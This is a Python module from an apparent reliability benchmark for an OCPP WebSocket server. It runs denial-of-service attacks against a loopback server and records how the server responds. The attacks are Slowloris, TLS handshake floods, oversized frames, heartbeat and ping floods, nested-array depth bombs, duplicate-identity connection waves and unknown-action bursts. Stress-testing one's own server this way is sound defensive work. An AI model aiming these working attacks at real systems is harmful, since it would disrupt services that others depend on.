"""One attacker of the abuse benchmark (reliability.md §5.6), its own process:

    python -m bench.abuse.attacker D7 --port P [--tls-port T] [--source 127.0.0.3] [--duration S]

Prints ``go`` on stdout when the attack starts, then one JSON ``Observed`` line when it ends.
Every connection comes from ``--source`` (the legitimate load uses another loopback address, so
that the per-address limits hit the attacker only). Each attack is repeated until ``--duration``
is over (a closed attacker reconnects), except D7 and D8, which run until the server closes the
flooding connection (at most ``--duration`` + 15 s).
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import ssl
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable

import msgspec
import picows
import uvloop
from picows import WSFrame, WSListener, WSMsgType, WSTransport

from bench.abuse.model import Observed, spread

MIB = 1024 * 1024
CLOSE_WAIT_S = 8.0
MAX_BATCH = 2_000
REFUSED_AT_ONCE_S = 0.5
"""A connection the server closed this soon after it opened was refused, not timed out."""


class Tally:
    """Counts and timings of one attack."""

    def __init__(self) -> None:
        self.counts: Counter[str] = Counter()
        self.times: dict[str, list[float]] = {}

    def time(self, name: str, seconds: float) -> None:
        self.times.setdefault(name, []).append(seconds)


class Recorder(WSListener):
    """An attacking WebSocket client: its close code, pongs and CALLERROR codes."""

    def __init__(self) -> None:
        self.code: int | None = None
        self.closed = asyncio.Event()
        self.closed_at = 0.0
        self.pongs = 0
        self.texts = 0
        self.errors: Counter[str] = Counter()
        self.answer = asyncio.Event()
        self.transport: WSTransport | None = None

    def on_ws_connected(self, transport: WSTransport) -> None:
        self.transport = transport

    def on_ws_frame(self, transport: WSTransport, frame: WSFrame) -> None:
        kind = frame.msg_type
        if kind is WSMsgType.TEXT:
            self.texts += 1
            data = frame.get_payload_as_bytes()
            if data.startswith(b"[4,"):
                parts = data.split(b'"', 4)
                self.errors[parts[3].decode(errors="replace") if len(parts) > 3 else "?"] += 1
            self.answer.set()
        elif kind is WSMsgType.PONG:
            self.pongs += 1
        elif kind is WSMsgType.CLOSE:
            self.code = frame.get_close_code().value
            transport.disconnect()

    def on_ws_disconnected(self, transport: WSTransport) -> None:
        self.closed_at = time.monotonic()
        self.closed.set()


class Attack:
    def __init__(self, args: argparse.Namespace) -> None:
        self.args = args
        self.tally = Tally()
        self.deadline = 0.0
        self.serial = 0
        self.flooding_s = 0.0
        self.notes: list[str] = []
        """Time spent flooding (D7, D8): frames sent / this = the rate achieved."""

    @property
    def url(self) -> str:
        return f"ws://127.0.0.1:{self.args.port}/ocpp"

    def over(self) -> bool:
        return time.monotonic() >= self.deadline

    async def station(self, identity: str, subprotocol: str = "ocpp1.6") -> Recorder | None:
        """A WebSocket client from the attacker's address (None: the upgrade failed)."""
        started = time.monotonic()
        try:
            _, listener = await asyncio.wait_for(
                picows.ws_connect(
                    Recorder,
                    f"{self.url}/{identity}",
                    extra_headers={"Sec-WebSocket-Protocol": subprotocol},
                    local_addr=(self.args.source, 0),
                    max_frame_size=4 * MIB,
                ),
                10,
            )
        except (OSError, TimeoutError, picows.WSError) as err:
            self.tally.counts[f"connect failed ({type(err).__name__})"] += 1
            self.tally.time("connect failed after", time.monotonic() - started)
            return None
        if not isinstance(listener, Recorder):  # picows: disconnected before it returned
            self.tally.counts["closed while connecting"] += 1
            return None
        self.tally.counts["connections"] += 1
        return listener

    def closed(self, recorder: Recorder, since: float, timing: str = "until close") -> None:
        self.tally.counts[f"closed {recorder.code}" if recorder.code else "closed no code"] += 1
        self.tally.time(timing, recorder.closed_at - since)

    async def repeat(self, once: Callable[[], Awaitable[None]]) -> None:
        while not self.over():
            await once()

    # -- the attacks ------------------------------------------------------------------
    async def d1(self) -> None:
        """Slowloris: ``--sockets`` connections that send half a request line, then one header
        byte a second and never the rest; each reconnects 1 s after the server hung up."""

        async def slot() -> None:
            while not self.over():
                started = time.monotonic()
                try:
                    reader, writer = await asyncio.open_connection(
                        "127.0.0.1", self.args.port, local_addr=(self.args.source, 0)
                    )
                except OSError:
                    self.tally.counts["connect failed"] += 1
                    await asyncio.sleep(1.0)
                    continue
                self.tally.counts["connections"] += 1
                writer.write(b"GET /ocpp/slowloris HTTP/1.1\r\nHost: x\r\nX-Slow: ")
                hung_up = False
                while not self.over():
                    try:
                        if not await asyncio.wait_for(reader.read(1024), 1.0):
                            hung_up = True
                            break
                    except TimeoutError:
                        writer.write(b"a")
                    except OSError:
                        hung_up = True
                        break
                if hung_up:
                    lived = time.monotonic() - started
                    if lived < REFUSED_AT_ONCE_S:
                        self.tally.counts["refused at once"] += 1
                    else:
                        self.tally.counts["closed by the handshake timeout"] += 1
                        self.tally.time("timed out after", lived)
                else:
                    self.tally.counts["still open at the end"] += 1
                writer.close()
                if hung_up:
                    await asyncio.sleep(1.0)

        await asyncio.gather(*(slot() for _ in range(self.args.sockets)))

    async def d3(self) -> None:
        """TLS handshake flood: ``--rate`` handshakes a second (then closed at once)."""
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        tasks: set[asyncio.Task[None]] = set()

        async def one() -> None:
            started = time.monotonic()
            try:
                _, writer = await asyncio.wait_for(
                    asyncio.open_connection(
                        "127.0.0.1",
                        self.args.tls_port,
                        ssl=context,
                        local_addr=(self.args.source, 0),
                    ),
                    5,
                )
            except (OSError, TimeoutError):
                self.tally.counts["tls refused or failed"] += 1
                return
            self.tally.counts["tls completed"] += 1
            self.tally.time("handshake", time.monotonic() - started)
            writer.close()

        interval = 1.0 / self.args.rate
        next_at = time.monotonic()
        while not self.over():
            if len(tasks) < 1000:
                task = asyncio.create_task(one())
                tasks.add(task)
                task.add_done_callback(tasks.discard)
                self.tally.counts["attempts"] += 1
            next_at += interval
            await asyncio.sleep(max(0.0, next_at - time.monotonic()))
        await asyncio.gather(*tasks, return_exceptions=True)

    async def _flood(self, identity: str, send: Callable[[WSTransport, int], None]) -> None:
        """One connection sending ``--rate`` frames a second until the server closes it."""
        try:
            transport, listener = await picows.ws_connect(
                Recorder,
                f"{self.url}/{identity}",
                extra_headers={"Sec-WebSocket-Protocol": "ocpp1.6"},
                local_addr=(self.args.source, 0),
                enable_auto_pong=False,
            )
        except (OSError, picows.WSError) as err:
            self.tally.counts[f"connect failed ({type(err).__name__})"] += 1
            return
        if not isinstance(listener, Recorder):  # picows: disconnected before it returned
            self.tally.counts["closed while connecting"] += 1
            return
        self.tally.counts["connections"] += 1
        started, sent = time.monotonic(), 0
        limit = self.deadline + 15.0
        while not listener.closed.is_set() and time.monotonic() < limit:
            due = int((time.monotonic() - started) * self.args.rate) + 1
            for _ in range(min(due - sent, MAX_BATCH)):  # catch up with the rate
                send(transport, sent)
                sent += 1
            await asyncio.sleep(0.002)
        self.flooding_s += time.monotonic() - started
        self.tally.counts["frames sent"] += sent
        self.tally.counts["answers"] += listener.texts
        self.tally.counts["pongs"] += listener.pongs
        self.tally.time("pongs per connection", float(listener.pongs))
        if listener.closed.is_set():
            self.closed(listener, started)
        else:
            self.tally.counts["never closed"] += 1
            transport.disconnect()

    async def none(self) -> None:
        """The control: the attacker process runs its window and sends nothing, so the legit
        p99 ratio of this window is what the ratio does by itself on this machine."""
        await asyncio.sleep(max(0.0, self.deadline - time.monotonic()))

    async def d7(self) -> None:
        """CALLs without waiting for answers (OCPP-J FR.01): Heartbeats at ``--rate``."""
        await self._flood(
            "ABUSE-D7", lambda t, n: t.send(WSMsgType.TEXT, b'[2,"f%d","Heartbeat",{}]' % n)
        )

    async def d8(self) -> None:
        """A ping flood at ``--rate`` from one connection; once it is closed, the next
        connection 0.1 s later, until the attack's time is over."""

        async def once() -> None:
            await self._flood("ABUSE-D8", lambda t, n: t.send_ping(b"x"))
            await asyncio.sleep(0.1)

        await self.repeat(once)

    async def d11(self) -> None:
        """Waves of 100 concurrent connections of one identity; after each wave, how many the
        server left open (it should keep exactly one: the newest replaces the others)."""

        async def wave() -> None:
            started = time.monotonic()
            clients = await asyncio.gather(*(self.station("ABUSE-D11") for _ in range(100)))
            live = [c for c in clients if c is not None]
            deadline = time.monotonic() + CLOSE_WAIT_S
            while sum(not c.closed.is_set() for c in live) > 1 and time.monotonic() < deadline:
                await asyncio.wait(
                    [asyncio.ensure_future(c.closed.wait()) for c in live if not c.closed.is_set()],
                    timeout=0.2,
                    return_when=asyncio.FIRST_COMPLETED,
                )
            survivors = [c for c in live if not c.closed.is_set()]
            self.tally.counts["waves"] += 1
            self.tally.time("wave until settled", time.monotonic() - started)
            self.tally.counts[f"waves leaving {len(survivors)} open"] += 1
            for c in live:
                if c.closed.is_set():
                    self.tally.counts[f"closed {c.code}" if c.code else "closed no code"] += 1
            for c in survivors:  # close the survivor: the next wave starts from nothing
                if c.transport is not None:
                    c.transport.disconnect()
            await asyncio.gather(*(c.closed.wait() for c in survivors))

        await self.repeat(wave)

    async def d12(self) -> None:
        """Unknown-action CALLs, 30 at once on a fresh connection, until it is closed."""

        async def once() -> None:
            self.serial += 1
            client_and_transport = await self._open(f"ABUSE-D12-{self.serial}")
            if client_and_transport is None:
                await asyncio.sleep(0.5)
                return
            transport, listener = client_and_transport
            started = time.monotonic()
            for n in range(30):
                transport.send(WSMsgType.TEXT, b'[2,"u%d","NoSuchAction",{}]' % n)
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(listener.closed.wait(), CLOSE_WAIT_S)
            self._answered_then_closed(transport, listener, started)

        await self.repeat(once)

    async def d4(self) -> None:
        """A 1 MiB text frame on a fresh connection, again and again."""

        async def once() -> None:
            self.serial += 1
            client_and_transport = await self._open(f"ABUSE-D4-{self.serial}")
            if client_and_transport is None:
                await asyncio.sleep(0.5)
                return
            transport, listener = client_and_transport
            started = time.monotonic()
            transport.send(WSMsgType.TEXT, b"[" + b" " * MIB + b"]")
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(listener.closed.wait(), CLOSE_WAIT_S)
            self._answered_then_closed(transport, listener, started)

        await self.repeat(once)

    async def d9(self) -> None:
        """Depth bombs (32,000 nested arrays) and wide arrays (32,000 elements), each within
        64 KiB, one at a time (the next after the answer) until the connection is closed."""
        depth = 32_000
        bomb = b'[2,"d%d","Heartbeat",' + b"[" * depth + b"]" * depth + b"]"
        wide = b'[2,"w%d","Heartbeat",{"a":[' + b",".join([b"0"] * 32_000) + b"]}]"

        async def once() -> None:
            self.serial += 1
            client_and_transport = await self._open(f"ABUSE-D9-{self.serial}")
            if client_and_transport is None:
                await asyncio.sleep(0.5)
                return
            transport, listener = client_and_transport
            started, n = time.monotonic(), 0
            while not listener.closed.is_set() and not self.over():
                n += 1
                listener.answer.clear()
                sent = time.monotonic()
                frame = (bomb if n % 2 else wide) % n
                transport.send(WSMsgType.TEXT, frame)
                self.tally.counts["bombs sent"] += 1
                answer = asyncio.ensure_future(listener.answer.wait())
                closed = asyncio.ensure_future(listener.closed.wait())
                await asyncio.wait([answer, closed], timeout=5, return_when="FIRST_COMPLETED")
                answer.cancel()
                closed.cancel()
                if listener.answer.is_set():
                    self.tally.time("answer (round trip)", time.monotonic() - sent)
            if not listener.closed.is_set():  # the attack's time ran out on this connection
                self.tally.counts["open at the end"] += 1
                for code, count in listener.errors.items():
                    self.tally.counts[f"CALLERROR {code}"] += count
                transport.disconnect()
                return
            self._answered_then_closed(transport, listener, started)

        await self.repeat(once)

    # -- helpers ----------------------------------------------------------------------
    async def _open(self, identity: str) -> tuple[WSTransport, Recorder] | None:
        try:
            transport, listener = await asyncio.wait_for(
                picows.ws_connect(
                    Recorder,
                    f"{self.url}/{identity}",
                    extra_headers={"Sec-WebSocket-Protocol": "ocpp1.6"},
                    local_addr=(self.args.source, 0),
                    max_frame_size=4 * MIB,
                ),
                10,
            )
        except (OSError, TimeoutError, picows.WSError) as err:
            self.tally.counts[f"connect failed ({type(err).__name__})"] += 1
            return None
        if not isinstance(listener, Recorder):  # picows: disconnected before it returned
            self.tally.counts["closed while connecting"] += 1
            return None
        self.tally.counts["connections"] += 1
        return transport, listener

    def _answered_then_closed(
        self, transport: WSTransport, listener: Recorder, started: float
    ) -> None:
        for code, count in listener.errors.items():
            self.tally.counts[f"CALLERROR {code}"] += count
        if listener.closed.is_set():
            self.closed(listener, started)
            self.tally.time("answers before close", float(listener.texts))
        else:
            self.tally.counts["not closed"] += 1
            self.tally.time("answers, not closed", float(listener.texts))
            at = time.monotonic() - self.deadline + self.args.duration
            self.notes.append(
                f"#{self.serial} not closed ({listener.texts} answers, {at:.1f} s in)"
            )
            transport.disconnect()


ATTACKS = {
    "NONE": ("none", 0.0),
    "D1": ("d1", 0.0),
    "D3": ("d3", 200.0),
    "D4": ("d4", 0.0),
    "D7": ("d7", 10_000.0),
    "D7-40K": ("d7", 40_000.0),
    "D8": ("d8", 10_000.0),
    "D9": ("d9", 0.0),
    "D11": ("d11", 0.0),
    "D12": ("d12", 0.0),
}
"""Attack name: its method and its default ``--rate`` (frames or handshakes a second)."""


async def run(args: argparse.Namespace) -> Observed:
    attack = Attack(args)
    print("go", flush=True)
    started = time.monotonic()
    attack.deadline = started + args.duration
    await getattr(attack, ATTACKS[args.attack][0])()
    if attack.flooding_s:
        sent = attack.tally.counts["frames sent"]
        attack.tally.counts["frames/s sent"] = round(sent / attack.flooding_s)
    return Observed(
        attack=args.attack,
        source=args.source,
        duration_s=round(time.monotonic() - started, 3),
        counts=dict(attack.tally.counts),
        times_s={name: spread(values) for name, values in attack.tally.times.items()},
        note="; ".join(attack.notes[:10]),
    )


def main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(prog="python -m bench.abuse.attacker")
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--tls-port", type=int, default=0)
    parser.add_argument("--source", default="127.0.0.3")
    parser.add_argument("--duration", type=float, default=12.0)
    parser.add_argument("--sockets", type=int, default=200, help="D1: slow connections")
    parser.add_argument("--rate", type=float, help="D7, D8: frames/s; D3: handshakes/s")
    args = parser.parse_args(argv)
    if args.rate is None:
        args.rate = ATTACKS[args.attack][1]
    observed = uvloop.run(run(args))
    print(msgspec.json.encode(observed).decode(), flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
